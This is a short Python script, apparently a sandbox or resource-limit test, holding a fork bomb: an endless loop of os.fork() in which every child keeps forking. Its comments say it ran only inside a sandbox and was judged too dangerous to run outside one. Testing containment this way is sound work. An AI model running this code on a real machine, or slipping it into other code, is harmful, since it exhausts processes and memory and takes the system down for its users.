# Forks for ever, in every child too.
# inside: used more than 1 s of CPU
# without: not tried, too dangerous
import os

while True:
    try:
        os.fork()
        gained = True
    except OSError:
        pass
